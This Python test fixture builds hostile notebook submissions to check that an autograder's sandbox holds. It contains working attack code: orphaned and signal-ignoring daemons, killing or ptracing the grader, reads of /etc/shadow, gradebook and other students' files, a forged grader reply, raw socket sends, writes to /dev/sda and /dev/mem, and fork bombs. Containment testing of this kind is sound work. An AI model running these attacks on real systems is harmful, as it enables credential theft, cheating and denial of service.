"""Hostile submissions for tests/test_grading_attacks.py: a released notebook with the reference answers filled in
and ONE attack each, placed where code really runs in the grading child (a function body, a default argument, a
decorator, a class body).

    plant_canaries(root)          # before release: secrets in the instructor's notebook (solution, hidden test)
    attackers = build(root, env)  # after release: submitted/<a..>/, plus the control and victim students

Every attack is bounded so that, if it were NOT contained, it could not take the machine down or touch anything
beyond this test's own course: bombs stop at a few hundred, sleepers give up after 60 s, signals go only to
processes of this course's grading run (found by the course root in an ancestor's command line).
"""

import json
import os
import uuid
from pathlib import Path

import fixture_class as fc

MARK = f"ATTACKORPHAN{os.getpid()}"   # in the command line of every process an attack of this run leaves


def canaries():
    run = uuid.uuid4().hex[:8]
    return {k: f"CANARY{k}{run}" for k in ("ENV", "ROOTONLY", "SOLUTION", "HIDDEN", "OTHER", "GRADEBOOK")}


def plant_canaries(root, canary):
    """The instructor's notebook gets a secret in a solution and in a hidden test (so in notebooks/ and the
    gradebook's source cells; never in release/)."""
    path = root / "notebooks" / fc.ASSIGNMENT / f"{fc.ASSIGNMENT}.ipynb"
    nb = json.loads(path.read_text())
    done = set()
    for cell in nb["cells"]:
        src = "".join(cell["source"])
        if "### BEGIN SOLUTION" in src and "SOLUTION" not in done:
            src = src.replace("### BEGIN SOLUTION", f"### BEGIN SOLUTION\n    # {canary['SOLUTION']}", 1)
            done.add("SOLUTION")
        if "### BEGIN HIDDEN TESTS" in src and "HIDDEN" not in done:
            src = src.replace("### BEGIN HIDDEN TESTS", f"### BEGIN HIDDEN TESTS\n# {canary['HIDDEN']}", 1)
            done.add("HIDDEN")
        cell["source"] = src
    assert done == {"SOLUTION", "HIDDEN"}, done
    path.write_text(json.dumps(nb, indent=1))


PRELUDE = '''import os, sys, re, time, signal, socket, subprocess, stat
import numpy as np

def _grep(data):
    if isinstance(data, bytes):
        data = data.decode("latin-1")
    return sorted(set(re.findall(r"CANARY[A-Z]+[0-9a-f]{8}", data)))


def _ours(pid):
    """True if `pid` or one of its ancestors is this course's grading run (bounds every signal we send)."""
    for _ in range(8):
        try:
            if ROOT.encode() in open(f"/proc/{pid}/cmdline", "rb").read():
                return True
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            return False
        if pid <= 1:
            return False
    return False


def _attack():
    try:
@CODE@
    except BaseException as exc:
        return f"attack failed: {type(exc).__name__}: {exc}"
'''

ORPHAN = 'import time; time.sleep(120)'
SLEEPER = '''import os, time, signal
end = time.time() + 60
me = os.getpid()
while time.time() < end:
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            try:
                c = open(f"/proc/{p}/cmdline", "rb").read()
            except OSError:
                continue
            if b"autograder" in c and _ours(int(p)):
                try:
                    os.kill(int(p), SIG)
                except OSError:
                    pass
    time.sleep(0.05)
'''

# name -> (exercise, placement, code of _attack(): returns a report string)
ATTACKS = {
    # ---- orphans, by every route (the child's pid namespace ends with it)
    "orphan_double_fork_setsid": ("ewma", "body", '''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", @ORPHAN@, @MARK@], {})
    os._exit(0)
os.wait()
return "double fork"'''),
    "orphan_setpgid_cleared_env": ("ewma", "decorator", '''
subprocess.Popen([sys.executable, "-c", @ORPHAN@, @MARK@], env={}, preexec_fn=lambda: os.setpgid(0, 0),
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
return "setpgid"'''),
    "orphan_shell_nohup": ("ewma", "class", '''
subprocess.run(["/bin/sh", "-c", f"nohup {sys.executable} -c '{@ORPHAN@}' {@MARK@} >/dev/null 2>&1 &"], env={})
return "nohup"'''),
    "orphan_setsid_utility": ("ewma", "default", '''
subprocess.Popen(["setsid", "-f", sys.executable, "-c", @ORPHAN@, @MARK@], env={})
return "setsid -f"'''),
    "orphan_daemon_ignores_signals": ("momentum", "body", '''
if os.fork() == 0:
    os.setsid()
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    if os.fork() == 0:
        os.chdir("/")
        os.closerange(0, 256)
        os.execve(sys.executable, [sys.executable, "-c", "import signal, time; "
                  "signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(120)", @MARK@], {})
    os._exit(0)
os.wait()
return "daemon"'''),
    "sleeper_kills_next_child": ("ewma", "decorator", '''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", "SIG = 9\\n" + @OURS@ + @SLEEPER@, @MARK@], {})
    os._exit(0)
os.wait()
return "sleeper"'''),
    "sleeper_stops_next_child": ("momentum", "class", '''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", "SIG = 19\\n" + @OURS@ + @SLEEPER@, @MARK@], {})
    os._exit(0)
os.wait()
return "stopper"'''),
    # ---- signals and ptrace to the grader
    "kill_parent": ("ewma", "body", '''
os.kill(os.getppid(), signal.SIGKILL) if _ours(os.getppid()) or os.getppid() == 1 else None
return "killed parent"'''),
    "stop_parent": ("momentum", "decorator", '''
os.kill(os.getppid(), signal.SIGSTOP) if _ours(os.getppid()) or os.getppid() == 1 else None
return "stopped parent"'''),
    "killpg_parent_group": ("ewma", "class", '''
pgid = os.getpgid(os.getppid())
os.killpg(pgid, signal.SIGTERM) if _ours(os.getppid()) or os.getppid() == 1 else None
return "killpg"'''),
    "kill_grader_by_scan": ("ewma", "default", '''
hit = 0
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid() and _ours(int(p)):
        try:
            os.kill(int(p), signal.SIGKILL)
            hit += 1
        except OSError:
            pass
return f"signalled {hit}"'''),
    "ptrace_parent": ("ewma", "body", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
out = []
for p in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if p != os.getpid() and (_ours(p) or p == os.getppid()):
        r = libc.ptrace(16, p, None, None)  # PTRACE_ATTACH
        out.append((p, r, ctypes.get_errno()))
        if r == 0:
            libc.ptrace(17, p, None, None)  # PTRACE_DETACH
return f"ptrace {out[:5]}"'''),
    # ---- reads of every secret location (each exfiltrates by another channel)
    "read_environ_of_every_process": ("ewma", "raise", '''
found = []
for p in os.listdir("/proc"):
    try:
        found += _grep(open(f"/proc/{p}/environ", "rb").read())
    except OSError:
        pass
return f"environ {found}"'''),
    "read_own_environment": ("ewma", "body", '''
return f"env {_grep(repr(dict(os.environ)))}"'''),
    "read_gradebook_sqlite": ("ewma", "body", '''
import sqlite3
con = sqlite3.connect(f"file:{ROOT}/gradebook.db?mode=ro", uri=True)
rows = [r for t in ("student", "source_cell", "grade_cell") for r in con.execute(f"select * from {t}")]
return f"gradebook {_grep(repr(rows))}"'''),
    "read_gradebook_file": ("ewma", "default", '''
return f"gradebook bytes {_grep(open(ROOT + '/gradebook.db', 'rb').read())}"'''),
    "read_solution_notebook": ("ewma", "decorator", '''
return f"solutions {_grep(open(ROOT + '/notebooks/fx_optim/fx_optim.ipynb').read())}"'''),
    "read_other_students": ("ewma", "class", '''
found = []
for folder in ("submitted", "autograded", "feedback", "release", "reports"):
    for d, _, files in os.walk(os.path.join(ROOT, folder)):
        for f in files:
            try:
                found += _grep(open(os.path.join(d, f), "rb").read())
            except OSError:
                pass
return f"others {found}"'''),
    "read_root_only_file": ("ewma", "raise", '''
return f"root only {_grep(open(@ROOTONLY@).read())}"'''),
    "read_etc_shadow": ("ewma", "body", '''
return "shadow " + open("/etc/shadow").read()[:300]'''),
    "walk_whole_filesystem": ("momentum", "body", '''
found, seen, end = [], 0, time.time() + 3
for d, dirs, files in os.walk("/"):
    dirs[:] = [x for x in dirs if not (d == "/" and x in ("proc", "sys"))]
    for f in files:
        if time.time() > end or seen > 20000:
            return f"walk {sorted(set(found))}"
        seen += 1
        try:
            p = os.path.join(d, f)
            if os.path.getsize(p) < 2**21:
                found += _grep(open(p, "rb").read())
        except OSError:
            pass
return f"walk {sorted(set(found))}"'''),
    "read_through_proc_root": ("ewma", "return", '''
found = []
for p in ["1", str(os.getppid())] + [x for x in os.listdir("/proc") if x.isdigit()][:50]:
    for tail in ("/gradebook.db", "/notebooks/fx_optim/fx_optim.ipynb"):
        try:
            found += _grep(open(f"/proc/{p}/root{ROOT}{tail}", "rb").read())
        except OSError:
            pass
return f"proc root {found}"'''),
    "read_open_fds_of_others": ("ewma", "body", '''
found = []
for p in os.listdir("/proc"):
    try:
        fds = os.listdir(f"/proc/{p}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            with open(f"/proc/{p}/fd/{fd}", "rb") as fh:
                found += _grep(fh.read(2**20))
        except OSError:
            pass
return f"fds {found}"'''),
    # ---- the reference's result by every route, and protocol forgery
    "reference_by_every_route": ("adam", "reference", '''
import importlib, inspect
import dlcore.optim
candidates = []
try:
    src = inspect.getsource(dlcore.optim.adam)
    ns = {"np": np}
    exec(src, ns)
    candidates.append(ns["adam"])
except BaseException:
    pass
try:
    candidates.append(importlib.reload(dlcore.optim).adam)
except BaseException:
    pass
for path in (@REPO@ + "/dlcore/optim.py", os.path.dirname(dlcore.__file__) + "/optim.py"):
    try:
        ns = {"__name__": "x"}
        exec(open(path).read().replace("from ._validate", "from dlcore._validate"), ns)
        candidates.append(ns["adam"])
    except BaseException:
        pass
candidates.append(lambda *a, **k: dlcore.Optimizer("adam").update({"w": a[0]}, {"w": a[1]}, {"w": a[2]}, a[3]))
return candidates'''),
    "forge_reply": ("adam", "forge", '''
import fcntl, json
from autograder import codec
sent = 0
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
            line = json.dumps({"ok": True, "result": codec.encode(FORGED), "mutated": []}) + "\\n"
            os.write(fd, (line * 8).encode())
            sent += 1
    except OSError:
        pass
return f"forged {sent}"'''),
    # ---- the network: nothing reaches the listeners on the host's loopback
    "tcp_connect": ("ewma", "body", '''
s = socket.create_connection(("127.0.0.1", @TCP@), 1)
s.sendall(b"ATTACK")
return "tcp sent"'''),
    "tcp6_connect": ("ewma", "decorator", '''
s = socket.create_connection(("::1", @TCP6@), 1)
s.sendall(b"ATTACK")
return "tcp6 sent"'''),
    "udp_send": ("ewma", "class", '''
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(5):
    s.sendto(b"ATTACK", ("127.0.0.1", @UDP@))
return "udp sent"'''),
    "unix_path_socket": ("ewma", "default", '''
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(@UNIX@)
s.sendall(b"ATTACK")
return "unix sent"'''),
    "unix_abstract_socket": ("ewma", "body", '''
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(@ABSTRACT@)
s.sendall(b"ATTACK")
return "abstract sent"'''),
    "af_packet_frame": ("ewma", "decorator", '''
import struct
def csum(b):
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    t = (t >> 16) + (t & 0xFFFF)
    return ~(t + (t >> 16)) & 0xFFFF
udp = struct.pack("!HHHH", 40000, @UDP@, 8 + 6, 0) + b"ATTACK"
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([127, 0, 0, 1]), bytes([127, 0, 0, 1]))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("lo", 0))
s.send(b"\\0" * 12 + b"\\x08\\x00" + ip + udp)
return "packet sent"'''),
    "raw_ip_socket": ("ewma", "class", '''
import struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s.sendto(struct.pack("!HHHH", 40001, @UDP@, 14, 0) + b"ATTACK", ("127.0.0.1", 0))
return "raw sent"'''),
    # ---- writes and metadata changes outside, device nodes
    "chmod_outside": ("ewma", "body", '''
os.chmod(@TARGET@, 0o777)
return "chmod"'''),
    "chown_outside": ("ewma", "decorator", '''
os.chown(@TARGET@, 4321, 4321)
return "chown"'''),
    "utime_outside": ("ewma", "class", '''
os.utime(@TARGET@, (0, 0))
return "utime"'''),
    "xattr_outside": ("ewma", "default", '''
os.setxattr(@TARGET@, "user.attack", b"1")
return "xattr"'''),
    "write_course_files": ("ewma", "body", '''
out = []
for f in (lambda: open(ROOT + "/reports/attack-canary.txt", "w").write("x"), lambda: open(@TARGET@, "a").write("x"),
          lambda: open(ROOT + "/gradebook.db", "ab").write(b"x")):
    try:
        f()
        out.append("ok")
    except OSError as exc:
        out.append(type(exc).__name__)
return f"writes {out}"'''),
    "write_dev_and_host_tmp": ("ewma", "decorator", '''
out = []
for path in ("/dev/shm/attack-canary", "/dev/attack-canary", "/tmp/attack-canary", "/var/tmp/attack-canary"):
    try:
        open(path, "w").write("x")
        out.append(path)
    except OSError:
        pass
for dev in ("/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg", "/dev/tty"):
    try:
        open(dev, "wb").write(b"x")
        out.append(dev)
    except OSError:
        pass
return f"dev {out}"'''),
    "mknod_devices": ("ewma", "class", '''
out = []
for path, mode, dev in (("node-null", stat.S_IFCHR, os.makedev(1, 3)), ("/tmp/attack-canary-fifo", stat.S_IFIFO, 0),
                        ("/dev/shm/attack-canary-node", stat.S_IFCHR, os.makedev(1, 1))):
    try:
        os.mknod(path, 0o666 | mode, dev)
        out.append(path)
    except OSError:
        pass
return f"mknod {out}"'''),
    # ---- bombs (bounded: a few hundred at most, each gone after 30 s)
    "fork_bomb": ("ewma", "body", '''
n = 0
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 30; : " + @MARK@])
        finally:
            os._exit(0)
    n += 1
return f"forked {n}"'''),
    "thread_bomb": ("ewma", "decorator", '''
import threading
n = 0
for _ in range(1000):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    except RuntimeError:
        break
    n += 1
return f"threads {n}"'''),
    # ---- nbgrader's marker texts in an answer and in printed output
    "marker_text": ("ewma", "body", '''
# ### BEGIN HIDDEN TESTS
# ### END HIDDEN TESTS
# check("ewma", ewma, hidden=True)   ### BEGIN SOLUTION   ### END SOLUTION
print("### BEGIN HIDDEN TESTS")
return "hidden=True ### END HIDDEN TESTS"'''),
}

# the attacks whose point is the NEXT student (run again with --jobs 1)
CROSS_STUDENT = ["orphan_double_fork_setsid", "orphan_setpgid_cleared_env", "orphan_daemon_ignores_signals",
                 "sleeper_kills_next_child", "sleeper_stops_next_child", "kill_parent", "stop_parent",
                 "killpg_parent_group", "kill_grader_by_scan", "ptrace_parent", "fork_bomb", "thread_bomb"]


def _indent(text, n):
    return "\n".join((" " * n + line) if line.strip() else line for line in text.strip("\n").split("\n"))


def _place(correct, exercise, placement):
    """The correct answer of `exercise` with `_attack()` run where `placement` says."""
    lines = correct.split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith(f"def {exercise}("))
    head, body = lines[:at + 1], lines[at + 1:]
    if not head[-1].rstrip().endswith(":"):
        raise ValueError(f"{exercise}: expected a one-line def")
    if placement == "body":
        return "\n".join(head + ['    print("ATTACK", _attack())'] + body)
    if placement == "raise":
        return "\n".join(head + ["    _r = _attack()", '    if "CANARY" in _r:', "        raise RuntimeError(_r)"]
                         + body)
    if placement == "return":
        return "\n".join(head + ["    _r = _attack()", '    if "CANARY" in _r:', "        return _r"] + body)
    # run at load time (the child loads definitions only); each call then prints what the attack got
    if placement == "default":
        head[-1] = head[-1].rstrip()[:-2] + ", _leak=_attack()):"
        return "\n".join(head + ['    print("ATTACK", _leak)'] + body)
    if placement == "decorator":
        return "\n".join(lines[:at] + ["def _deco(f):", "    f.report = _attack()", "    return f", "", "@_deco"]
                         + head + [f'    print("ATTACK", {exercise}.report)'] + body)
    if placement == "class":
        return "\n".join(lines[:at] + ["class _Loader:", "    report = _attack()", ""] + head
                         + ['    print("ATTACK", _Loader.report)'] + body)
    if placement == "reference":  # the graded function returns whatever reference it could get hold of
        args = head[-1][head[-1].index("(") + 1:head[-1].rindex(")")]
        names = [a.split("=")[0].strip() for a in args.split(",") if a.strip() not in ("*", "")]
        return "\n".join(head + ["    for fn in _attack():", "        try:",
                                 f"            return fn({', '.join(names)})", "        except BaseException:",
                                 "            pass", "    raise RuntimeError('no reference reachable')"])
    if placement == "forge":  # the graded function answers the call itself, then hangs so its real reply never goes
        return "\n".join(head + ["    global FORGED", "    FORGED = (w, state)", '    print("ATTACK", _attack())',
                                 "    time.sleep(30)"])
    raise ValueError(placement)


def _literal(text, env):
    for key, value in env.items():
        text = text.replace(f"@{key}@", repr(value))
    return text.replace("ROOT", repr(env["ROOT"]))   # the course root, as the attacker would hard-code it


def solutions(root):
    """The reference answers, without the canary lines planted in the instructor's notebook."""
    return {k: "\n".join(line for line in v.split("\n") if "CANARY" not in line)
            for k, v in fc.solutions(root).items()}


def source(name, env):
    exercise, placement, code = ATTACKS[name]
    ours = _literal(PRELUDE[PRELUDE.index("def _ours"):PRELUDE.index("def _attack")], env)
    code = code.replace("@ORPHAN@", repr(ORPHAN)).replace("@MARK@", repr(MARK)).replace("@SLEEPER@", repr(SLEEPER))
    code = _literal(code.replace("@OURS@", repr(ours)), env)
    prelude = _literal(PRELUDE, env).replace("@CODE@", _indent(code, 8))
    return exercise, prelude + "\n\n" + _place(solutions(Path(env["ROOT"]))[exercise], exercise, placement)


def build(root, env, canary, names=None):
    """Write every attacker (a<nn>_<name>; only `names` if given), two correct controls graded after them, and a
    victim whose answer holds a secret; returns {student: attack name or role}."""
    release = json.loads((root / "release" / fc.ASSIGNMENT / f"{fc.ASSIGNMENT}.ipynb").read_text())
    good = solutions(root)

    def notebook(answers):
        nb = json.loads(json.dumps(release))
        fc._answer(nb, {**good, **answers})
        return nb

    students = {}
    for i, name in enumerate(ATTACKS):
        if names is not None and name not in names:
            continue
        exercise, src = source(name, env)
        student = f"a{i:02d}_{name}"
        fc._write(root, student, notebook({exercise: src}))
        students[student] = name
    victim = good["ewma"].replace('"""\n', f'"""\n    # {canary["OTHER"]}\n', 1)
    fc._write(root, "m_victim", notebook({"ewma": victim}))
    students["m_victim"] = "victim"
    for k in (1, 2):
        fc._write(root, f"z_control{k}", notebook({}))
        students[f"z_control{k}"] = "control"
    return students
